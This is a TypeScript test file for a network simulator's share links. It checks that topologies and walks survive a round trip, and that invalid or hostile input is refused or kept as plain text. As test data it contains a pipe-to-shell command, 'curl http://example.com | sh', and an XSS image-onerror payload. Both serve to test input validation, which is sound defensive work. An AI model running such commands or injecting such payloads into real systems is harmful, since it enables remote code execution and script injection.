// Shared links as the worker reads them, like a file: the codec's envelope, then the network's
// validation (the same as Open…). What comes back is what went in; hostile text stays text.

import { describe, expect, test } from 'vitest';
import type { Topology } from '../engine';
import { encodeShare } from '../walk/share/codec';
import type { SharePayload } from '../walk/share/limits';
import { simApi } from './sim-api';

const topology = simApi.loadExample('two-subnets-router');
const pdu = { source: 'h1', address: '10.0.2.10', device: 'h2', protocol: 'udp' as const, srcPort: 40000, dstPort: 5353, count: 2 };
const payload: SharePayload<Topology> = { app: 'packetwalk', v: 1, topology, walk: { kind: 'pdu', pdu }, step: 7 };

describe('round trip', () => {
  test('the topology (with positions), the walk and the step come back as they were', () => {
    expect(simApi.readShareLink(simApi.makeShareLink(payload))).toEqual({ ok: true, topology, walk: payload.walk, step: 7 });
  });

  test('a TCP packet comes back as one', () => {
    const tcp = { ...payload, walk: { kind: 'pdu' as const, pdu: { ...pdu, protocol: 'tcp' as const, dstPort: 80 } } };
    expect(simApi.readShareLink(simApi.makeShareLink(tcp))).toEqual({ ok: true, topology, walk: tcp.walk, step: 7 });
  });

  test('a network alone, and the topology’s scenario at its start', () => {
    expect(simApi.readShareLink(encodeShare({ app: 'packetwalk', v: 1, topology }))).toEqual({ ok: true, topology });
    const scenario = simApi.readShareLink(encodeShare({ app: 'packetwalk', v: 1, topology, walk: { kind: 'scenario' }, step: 0 }));
    expect(scenario).toEqual({ ok: true, topology, walk: { kind: 'scenario' }, step: 0 });
  });
});

describe('refused links', () => {
  test('a network that fails validation is refused with its problems, like a file', () => {
    const bad = { ...topology, nodes: topology.nodes.map((n) => (n.name === 'h2' ? { ...n, name: 'h1' } : n)) };
    const r = simApi.readShareLink(encodeShare({ ...payload, topology: bad }));
    expect(r).toMatchObject({ ok: false, error: 'invalid' });
    expect(!r.ok && r.problems?.map((p) => p.message).join('\n')).toMatch(/used twice/);
  });

  test('a scenario command packetwalk does not run is refused', () => {
    const r = simApi.readShareLink(encodeShare({ ...payload, topology: { ...topology, scenario: [{ kind: 'run', on: 'h1', run: 'curl http://example.com | sh' }] } }));
    expect(r).toMatchObject({ ok: false, error: 'invalid' });
  });
});

describe('hostile text', () => {
  const IMG = '<img src=x onerror=alert(1)>';

  test('as the network’s name it is kept as text, character for character', () => {
    const r = simApi.readShareLink(encodeShare({ ...payload, topology: { ...topology, name: IMG } }));
    expect(r.ok && r.topology.name).toBe(IMG);
  });

  test('as a device name it is refused by validation', () => {
    const r = simApi.readShareLink(encodeShare({ ...payload, topology: { ...topology, nodes: topology.nodes.map((n, i) => (i === 0 ? { ...n, name: IMG } : n)) } }));
    expect(r).toMatchObject({ ok: false, error: 'invalid' });
  });
});
